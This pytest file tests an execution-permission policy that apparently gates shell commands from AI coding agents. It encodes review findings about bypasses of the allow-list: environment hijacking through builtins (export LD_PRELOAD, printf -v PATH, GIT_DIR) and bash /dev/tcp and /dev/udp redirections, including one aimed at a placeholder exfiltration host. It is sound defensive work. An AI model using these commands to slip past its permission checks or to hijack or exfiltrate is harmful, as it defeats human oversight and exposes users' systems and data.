"""Review s33 (helper 123), findings 3 and 4, fixed by helper 127.

3. A builtin an allow rule names gave a later allowed command's environment a value (checked
   with bash 5.2 and git 2.39): `printf -v HOME %s DIR; git status` ran DIR/.gitconfig's
   core.fsmonitor, `printf -v PATH %s DIR; ls` ran DIR/ls, `export LD_PRELOAD=X.so; ls` X's
   constructor, while the same variables as a prefix (`GIT_DIR=D git status`) were asked.
   Now any part that may run after a builtin (or a lasting assignment) gives an environment
   variable a value is asked (unseen.sets_environment).
4. bash opens `/dev/tcp/HOST/PORT` and `/dev/udp/...` itself, for an input redirection too,
   and looks HOST up first: `cat < /dev/tcp/...` was allowed by the built-in `cat` rule.
"""

from __future__ import annotations

import pytest

from console.policy import ExecRules, GrantTable, evaluate_exec, new_grant, ungrantable

FORBID = ["rm -rf /", "rm -rf ~", "git push --force", "git reset --hard"]
BUILTINS = ["printf", "read", "mapfile", "readarray", "export", "declare", "typeset", "getopts",
            "wait", "unset", "set", ":", "echo", "ls", "cat", "git status", "git diff"]


def _decide(allow: list[str], command: str, default: str = "ask"):
    return evaluate_exec(command, ExecRules(allow=allow, forbid=FORBID, default=default))


def _action(allow: list[str], command: str) -> str:
    return _decide(allow, command).action


# --- finding 3: the reviewer's cases, then more spellings --------------------------------------

@pytest.mark.parametrize("command", [
    "printf -v HOME %s /tmp/e; git status",
    "printf -vHOME /tmp/e && git diff",
    "read HOME <<< /tmp/e; git status",
    "read -r HOME < homefile; git diff",
    "mapfile -t HOME <<< /tmp/e; git status",
    "printf -v PATH %s /tmp/e; ls",
    "read PATH <<< /tmp/e; ls",
    "export GIT_DIR=/tmp/evilgd; git status",
    "export LD_PRELOAD=/tmp/pre.so; ls",
    "export GIT_TRACE=/tmp/trace; git status",
    "export HOME=/tmp/e; git diff",
    "declare -x HOME=/tmp/e; git status",
    # more of the same
    "read -a HOME <<< /tmp/e; git status",          # -a's value is the name
    "read -p prompt -r HOME < f; git status",
    "readarray HOME < f; git status",
    "mapfile -n 1 -t HOME < f && git status",
    "typeset -x GIT_WORK_TREE=/tmp; git status",
    "declare LD_LIBRARY_PATH=/tmp/lib; ls",          # already exported by convention
    "declare -gx foo=1; ls",                          # exported by its command: any name
    "export foo=1; ls",
    "export -f ls; ls",
    "getopts ab HOME; git status",
    "wait -p HOME; git status",
    "unset HOME; git status",
    "unset -v GIT_CONFIG_NOSYSTEM && git status",
    "set -a; read x <<< 1; ls",                       # every assignment exported after it
    "set -o allexport; ls",
    "HOME=/tmp/e :; git status",                      # sh keeps a special builtin's prefix
    "export https_proxy=http://evil:1; ls",
    "read https_proxy <<< http://evil:1; ls",
    "echo ok\nexport GIT_DIR=/tmp/d\ngit status",
    "export GIT_DIR=/tmp/d && echo ok | cat && git status",
    "builtin export GIT_DIR=/tmp/d; git status",
    "command printf -v PATH %s /tmp/e; ls",
])
def test_a_builtin_giving_the_environment_a_value_asks_for_what_runs_after(command: str) -> None:
    assert _action(BUILTINS, command) != "allow", command


def test_the_later_command_is_the_one_asked_and_the_reason_names_the_variable() -> None:
    decision = _decide(["export", "git status"], "export GIT_DIR=/tmp/d; git status")
    assert decision.action == "ask"
    assert decision.asking == ("git status",)
    assert "GIT_DIR" in (decision.provenance.detail or "")
    # alone, the setter stays what its rule says: its shell ends with the line
    assert _action(["export"], "export GIT_DIR=/tmp/d") == "allow"


def test_under_default_allow_the_later_command_is_asked_too() -> None:
    assert _decide([], "read HOME <<< /tmp/e; git status", default="allow").action == "ask"
    # a part before it runs before it: unless the line loops or defines a function
    assert _decide([], "git status; read HOME <<< /tmp/e", default="allow").action == "allow"
    assert _decide([], "while true; do git status; read HOME <<< /tmp/e; done",
                   default="allow").action == "ask"


def test_a_grant_does_not_cover_a_command_after_such_a_builtin() -> None:
    grants = GrantTable()
    grants.add(new_grant("exec", "git status", "allow", "global", run_id=None, profile=None,
                         decided_by="me", exact=False))
    rules = ExecRules(allow=["export"], forbid=FORBID)
    assert evaluate_exec("export GIT_DIR=/tmp/d; git status", rules, grants).action == "ask"
    assert evaluate_exec("git status", rules, grants).action == "allow"
    assert "git status" in (ungrantable("export GIT_DIR=/tmp/d; git status") or ())


def test_nested_setters_reach_their_parent_and_their_siblings() -> None:
    assert _action(["sh -c", "git status"], "sh -c 'export GIT_DIR=/tmp/d; git status'") != "allow"
    assert _action(["eval", "git status"], "eval 'export GIT_DIR=/tmp/d'; git status") != "allow"


@pytest.mark.parametrize("command", [
    "read x <<< 1; echo ok",
    "read -r line < README; echo ok",
    "mapfile -t lines < README; ls",
    "printf -v x %s 1; ls",
    "declare -a arr; ls",
    "declare -p HOME; ls",                            # prints only
    "export -p; ls",
    "export; ls",
    "set -euo pipefail; ls",
    "set -- -a b; ls",
    "unset -f myfunc; ls",
    "getopts ab opt; ls",
    "git status; export FOO=1",                       # nothing runs after it
    "export FOO=1",
    "echo HOME=/tmp/x; ls",                           # a word, not an assignment
    "cat < README.md",
    "ls; cat README | grep x",
])
def test_ordinary_lines_stay_allowed(command: str) -> None:
    assert _action(BUILTINS + ["grep"], command) == "allow", command


# --- finding 4 ---------------------------------------------------------------------------------

@pytest.mark.parametrize("command", [
    "cat < /dev/tcp/127.0.0.1/8765",
    "cat </dev/tcp/127.0.0.1/8765",
    "grep x < /dev/tcp/exfil-SECRET.invalid/80",
    "head -c 10 0</dev/udp/127.0.0.1/53",
    "cat 3</dev/tcp/127.0.0.1/8765",
    # more spellings bash connects with (checked with bash 5.2)
    "cat < '/dev/tcp/127.0.0.1/8765'",
    'cat < "/dev/udp/127.0.0.1/53"',
    "cat < /dev/tcp/exfil.invalid/80/x",              # looks the name up before it fails
    "cat {fd}</dev/tcp/127.0.0.1/8765",
    "cat <> /dev/tcp/127.0.0.1/8765",
    "cat 2>/dev/tcp/127.0.0.1/8765",
    "cat >& /dev/tcp/127.0.0.1/8765",
    "ls; cat < /dev/tcp/127.0.0.1/8765",
    "cat < //dev/tcp/127.0.0.1/8765",                 # not bash's, but no harm in asking
])
def test_dev_tcp_redirections_are_not_allowed(command: str) -> None:
    assert _action(["cat", "grep", "head", "ls"], command) != "allow", command


def test_dev_tcp_reason_and_grants() -> None:
    decision = _decide(["cat"], "cat < /dev/tcp/127.0.0.1/8765")
    assert decision.action == "ask"
    assert "/dev/tcp/127.0.0.1/8765" in (decision.provenance.detail or "")
    grants = GrantTable()
    grants.add(new_grant("exec", "cat", "allow", "global", run_id=None, profile=None,
                         decided_by="me", exact=False))
    rules = ExecRules(forbid=FORBID)
    assert evaluate_exec("cat < /dev/tcp/127.0.0.1/8765", rules, grants).action == "ask"
    assert "cat < /dev/tcp/127.0.0.1/8765" in (ungrantable("cat < /dev/tcp/127.0.0.1/8765") or ())


def test_builtin_profiles_ask_for_dev_tcp() -> None:
    from console.config.load import load

    cfg = load(None)
    for name in ("claude", "demo", "codex", "aider"):
        rules = ExecRules.from_config(cfg.profiles[name].exec)
        assert evaluate_exec("cat < /dev/tcp/127.0.0.1/8765", rules).action != "allow", name


@pytest.mark.parametrize("command", [
    "cat <<< /dev/tcp/127.0.0.1/8765",                # a here-string is data
    "cat /dev/tcp/127.0.0.1/8765",                    # cat opens it: no such file
    "head -c 1 < /dev/urandom",
    "cat < README.md 2>/dev/null",
])
def test_other_dev_files_stay_allowed(command: str) -> None:
    assert _action(["cat", "head"], command) == "allow", command
